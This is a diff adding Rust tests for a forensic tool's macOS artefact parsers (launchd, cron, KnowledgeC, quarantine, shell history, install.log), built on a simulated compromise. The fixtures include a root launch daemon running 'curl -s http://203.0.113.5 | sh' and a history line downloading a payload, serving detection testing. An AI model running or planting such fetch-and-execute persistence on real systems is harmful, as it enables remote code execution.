@@ -0,0 +1,203 @@
+#[cfg(test)]
+mod tests {
+    use std::collections::HashMap;
+    use std::fs;
+    use std::path::{Path, PathBuf};
+    use chrono::{TimeZone, Utc};
+    use plist::{Dictionary, Value};
+    use rusqlite::Connection;
+    use tempfile::TempDir;
+    use crate::art::paths;
+    use crate::configs::config::{MainArgs, Wiskers};
+    use crate::tests::create_main_args;
+    use crate::macos::common as macos;
+    use crate::macos::install_log::InstallLogParser;
+    use crate::macos::launchd;
+    use crate::ops::builtin_ops;
+    use crate::parsers::common;
+
+    /// 2024-03-01T10:00:00Z in Cocoa time
+    const COCOA_TIME: f64 = 730_980_000.0;
+
+    fn write(path: &Path, data: &[u8]) {
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        fs::write(path, data).unwrap();
+    }
+
+    fn run(wisker: &str, outfolder: &str, outfile: &str, args: &str, root: &Path, main_args: &MainArgs) -> String {
+        let data_paths = HashMap::from([("base".to_string(), root.to_string_lossy().to_string())]);
+        let wisker: Wiskers = serde_yaml::from_str(&format!(
+            "name: {wisker}\nbinary: 'builtin:{wisker}'\nargs: '{args}'\noutfolder: {outfolder}\noutfile: {outfile}\ninput: base\n"
+        )).unwrap();
+        builtin_ops::run_builtin(&wisker, &data_paths, main_args).unwrap()
+    }
+
+    fn read_rows(path: &Path) -> Vec<Vec<String>> {
+        csv::Reader::from_path(path).unwrap().records()
+            .map(|r| r.unwrap().iter().map(str::to_string).collect())
+            .collect()
+    }
+
+    /// Test Cocoa times are converted to UTC
+    #[test]
+    fn test_cocoa_to_dt() {
+        assert_eq!(common::cocoa_to_dt(COCOA_TIME), Utc.with_ymd_and_hms(2024, 3, 1, 10, 0, 0).single());
+        assert_eq!(common::cocoa_to_dt(0.5).unwrap().to_rfc3339(), "2001-01-01T00:00:00.500+00:00");
+        assert!(common::cocoa_to_dt(0.0).is_none());
+        assert!(common::cocoa_to_dt(f64::NAN).is_none());
+    }
+
+    /// Test the command, account and start keys of a launch agent's plist are reported
+    #[test]
+    fn test_launchd_entry() {
+        let mut plist = Dictionary::new();
+        plist.insert("Label".to_string(), Value::from("com.evil.updater"));
+        plist.insert("ProgramArguments".to_string(), Value::Array(vec![Value::from("/bin/sh"), Value::from("-c"), Value::from("curl -s http://203.0.113.5 | sh")]));
+        plist.insert("RunAtLoad".to_string(), Value::Boolean(true));
+        plist.insert("StartInterval".to_string(), Value::Integer(300.into()));
+        plist.insert("UserName".to_string(), Value::from("root"));
+        let entry = launchd::launchd_entry(&plist, "LaunchDaemon", "Library/LaunchDaemons", "");
+        assert_eq!(entry.name, "com.evil.updater");
+        assert_eq!(entry.command, "/bin/sh -c curl -s http://203.0.113.5 | sh");
+        assert_eq!(entry.user, "root");
+        assert_eq!(entry.details, "RunAtLoad: true, StartInterval: 300");
+
+        let mut plist = Dictionary::new();
+        plist.insert("Program".to_string(), Value::from("/usr/local/bin/agent"));
+        plist.insert("ProgramArguments".to_string(), Value::Array(vec![Value::from("agent"), Value::from("--daemon")]));
+        plist.insert("Disabled".to_string(), Value::Boolean(true));
+        let entry = launchd::launchd_entry(&plist, "LaunchAgent", "Users/alice/Library/LaunchAgents", "alice");
+        assert_eq!((entry.command.as_str(), entry.user.as_str(), entry.details.as_str()), ("/usr/local/bin/agent --daemon", "alice", "Disabled: true"));
+    }
+
+    /// Test the lines of install.log are split, with the packages installed named
+    #[test]
+    fn test_install_log_parser() {
+        let parser = InstallLogParser::new().unwrap();
+        let line = parser.parse(r#"2024-03-01 11:00:05+01 Alices-MacBook installd[612]: PackageKit: Installed "Zoom" (5.17.11)"#).unwrap();
+        assert_eq!(line.timestamp, Utc.with_ymd_and_hms(2024, 3, 1, 10, 0, 5).single());
+        assert_eq!((line.host.as_str(), line.process.as_str(), line.pid.as_str()), ("Alices-MacBook", "installd", "612"));
+        assert_eq!((line.package.as_str(), line.version.as_str()), ("Zoom", "5.17.11"));
+        let line = parser.parse("2024-03-01 02:00:00-08 Alices-MacBook Installer Progress[41]: Ending progress").unwrap();
+        assert_eq!(line.timestamp, Utc.with_ymd_and_hms(2024, 3, 1, 10, 0, 0).single());
+        assert_eq!((line.process.as_str(), line.package.as_str()), ("Installer Progress", ""));
+        assert!(parser.parse("\tcontinued message").is_none());
+    }
+
+    /// Test the builtins over a macOS volume in the [root] of a collection, and the macos
+    /// profile being selected for it over the linux profile
+    #[test]
+    fn test_macos_builtins() {
+        let temp_dir = TempDir::new().unwrap();
+        let out_path = temp_dir.path().join("out");
+        let collection = temp_dir.path().join("uac-macbook-macos-20240301");
+        let root = collection.join("[root]");
+        fs::create_dir_all(root.join("private/var/log")).unwrap();
+        fs::create_dir_all(root.join("Users/Shared")).unwrap();
+        // the links of a macOS volume to private, which make it pass as a Linux root
+        fs::create_dir_all(root.join("etc")).unwrap();
+        fs::create_dir_all(root.join("var/log")).unwrap();
+
+        let mut agent = Dictionary::new();
+        agent.insert("Label".to_string(), Value::from("com.evil.agent"));
+        agent.insert("Program".to_string(), Value::from("/Users/alice/.local/agent"));
+        agent.insert("KeepAlive".to_string(), Value::Boolean(true));
+        let agents = root.join("Users/alice/Library/LaunchAgents");
+        fs::create_dir_all(&agents).unwrap();
+        Value::Dictionary(agent.clone()).to_file_binary(agents.join("com.evil.agent.plist")).unwrap();
+        fs::create_dir_all(root.join("Library/LaunchDaemons")).unwrap();
+        agent.insert("Label".to_string(), Value::from("com.vendor.daemon"));
+        Value::Dictionary(agent.clone()).to_file_xml(root.join("Library/LaunchDaemons/com.vendor.daemon.plist")).unwrap();
+        fs::create_dir_all(root.join("System/Library/LaunchDaemons")).unwrap();
+        agent.insert("Label".to_string(), Value::from("com.apple.system"));
+        Value::Dictionary(agent).to_file_binary(root.join("System/Library/LaunchDaemons/com.apple.system.plist")).unwrap();
+        write(&root.join("Library/LaunchAgents/broken.plist"), b"not a plist");
+        write(&root.join("private/var/at/tabs/alice"), b"@reboot /Users/alice/.local/agent\n");
+
+        let knowledge = root.join("Users/alice/Library/Application Support/Knowledge");
+        fs::create_dir_all(&knowledge).unwrap();
+        let db = Connection::open(knowledge.join("knowledgeC.db")).unwrap();
+        db.execute_batch(&format!(
+            "CREATE TABLE ZSOURCE (Z_PK INTEGER PRIMARY KEY, ZBUNDLEID VARCHAR);
+             CREATE TABLE ZOBJECT (Z_PK INTEGER PRIMARY KEY, ZSTREAMNAME VARCHAR, ZVALUESTRING VARCHAR, ZVALUEINTEGER INTEGER,
+                ZVALUEDOUBLE FLOAT, ZSTARTDATE TIMESTAMP, ZENDDATE TIMESTAMP, ZCREATIONDATE TIMESTAMP, ZSOURCE INTEGER);
+             INSERT INTO ZSOURCE VALUES (1, 'com.apple.Terminal');
+             INSERT INTO ZOBJECT VALUES (1, '/app/usage', 'com.apple.Terminal', NULL, NULL, {COCOA_TIME}, {}, {}, 1);
+             INSERT INTO ZOBJECT VALUES (2, '/display/isBacklit', NULL, 1, NULL, {}, NULL, NULL, NULL);",
+            COCOA_TIME + 90.0, COCOA_TIME + 91.0, COCOA_TIME - 60.0,
+        )).unwrap();
+        drop(db);
+
+        let preferences = root.join("Users/alice/Library/Preferences");
+        fs::create_dir_all(&preferences).unwrap();
+        let db = Connection::open(preferences.join("com.apple.LaunchServices.QuarantineEventsV2")).unwrap();
+        db.execute_batch(&format!(
+            "CREATE TABLE LSQuarantineEvent (LSQuarantineEventIdentifier TEXT PRIMARY KEY NOT NULL, LSQuarantineTimeStamp REAL,
+                LSQuarantineAgentBundleIdentifier TEXT, LSQuarantineAgentName TEXT, LSQuarantineDataURLString TEXT,
+                LSQuarantineSenderName TEXT, LSQuarantineSenderAddress TEXT, LSQuarantineTypeNumber INTEGER,
+                LSQuarantineOriginTitle TEXT, LSQuarantineOriginURLString TEXT, LSQuarantineOriginAlias BLOB);
+             INSERT INTO LSQuarantineEvent VALUES ('8C2F', {COCOA_TIME}, 'com.google.Chrome', 'Chrome',
+                'https://203.0.113.5/update.dmg', NULL, NULL, 0, NULL, 'https://evil.example/', NULL);"
+        )).unwrap();
+        drop(db);
+
+        write(&root.join("Users/alice/.zsh_history"), b": 1709287300:0;curl -o /tmp/a https://203.0.113.5/a\n");
+        write(&root.join("Users/alice/.bash_sessions/4F1C.history"), b"chmod +x /tmp/a\n");
+        write(&root.join("private/var/root/.bash_history"), b"id\n");
+        write(&root.join("private/var/log/install.log"), concat!(
+            "2024-03-01 11:00:00+01 Alices-MacBook installd[612]: PackageKit: Installing \"Zoom\"\n",
+            "2024-03-01 11:00:05+01 Alices-MacBook installd[612]: PackageKit: Installed \"Zoom\" (5.17.11)\n",
+        ).as_bytes());
+
+        assert_eq!(macos::macos_root(&collection), Some(root.clone()));
+        assert_eq!(macos::user_homes(&root).iter().map(|(u, _)| u.as_str()).collect::<Vec<_>>(), vec!["alice", "root"]);
+        let tool_path = temp_dir.path().join("wiskess").join("tools");
+        let main_args = MainArgs { tool_path, ..create_main_args(temp_dir.path(), &out_path, "2024-01-01", "2024-12-31") };
+
+        let msg = run("macos_persistence", "Persistence", "macos_persistence.csv", "", &root, &main_args);
+        assert_eq!(msg, "macOS persistence entries written: 3");
+        let rows = read_rows(&out_path.join("Persistence/macos_persistence.csv"));
+        let entries: Vec<(&str, &str, &str, &str)> = rows.iter().map(|r| (r[2].as_str(), r[4].as_str(), r[6].as_str(), r[7].as_str())).collect();
+        assert_eq!(entries, vec![
+            ("LaunchDaemon", "com.vendor.daemon", "", "KeepAlive: true"),
+            ("LaunchAgent", "com.evil.agent", "alice", "KeepAlive: true"),
+            ("Cron", "alice", "alice", "Schedule: @reboot"),
+        ]);
+        assert!(fs::read_to_string(&main_args.out_log).unwrap().contains("Unable to read the plist"));
+        let msg = run("macos_persistence", "Persistence", "macos_persistence_all.csv", "--all-items", &root, &main_args);
+        assert_eq!(msg, "macOS persistence entries written: 4");
+
+        let msg = run("macos_knowledgec", "UserActivity", "macos_knowledgec.csv", "", &root, &main_args);
+        assert_eq!(msg, "KnowledgeC: 2 events from 1 databases");
+        let rows = read_rows(&out_path.join("UserActivity/macos_knowledgec.csv"));
+        assert_eq!(rows[0][3..5], ["/display/isBacklit", "1"]);
+        assert_eq!(rows[1][..8], [
+            "2024-03-01T10:00:00.000Z", "2024-03-01T10:01:30.000Z", "90", "/app/usage", "com.apple.Terminal",
+            "com.apple.Terminal", "2024-03-01T10:01:31.000Z", "alice",
+        ]);
+
+        let msg = run("macos_quarantine", "Browsers", "macos_quarantine.csv", "", &root, &main_args);
+        assert_eq!(msg, "macOS quarantine events written: 1");
+        let rows = read_rows(&out_path.join("Browsers/macos_quarantine.csv"));
+        assert_eq!(rows[0][..10], [
+            "2024-03-01T10:00:00.000Z", "alice", "Chrome", "com.google.Chrome", "https://203.0.113.5/update.dmg",
+            "https://evil.example/", "", "", "WebDownload", "8C2F",
+        ]);
+
+        let msg = run("macos_history", "UserActivity", "macos_history.csv", "", &root, &main_args);
+        assert_eq!(msg, "macOS shell history: 3 commands from 3 histories");
+        let msg = run("macos_install_log", "Logs", "macos_install.csv", "", &root, &main_args);
+        assert_eq!(msg, "macOS install log: 2 lines from 1 logs, with 1 packages installed");
+
+        let config_dir = temp_dir.path().join("wiskess").join("config");
+        for profile in ["linux", "macos"] {
+            write(&config_dir.join("profiles").join(profile).join("main.yaml"), b"");
+            write(&config_dir.join("profiles").join(profile).join("artefacts.yaml"), b"");
+        }
+        let (config, _, data_source) = paths::select_profile(
+            &config_dir.join("linux/main.yaml"), &config_dir.join("linux/artefacts.yaml"), &collection.to_string_lossy().to_string(), &main_args,
+        );
+        assert_eq!((config, PathBuf::from(data_source)), (config_dir.join("profiles/macos/main.yaml"), root));
+        assert!(fs::read_to_string(&main_args.out_log).unwrap().contains("having private/var and Library"));
+    }
+}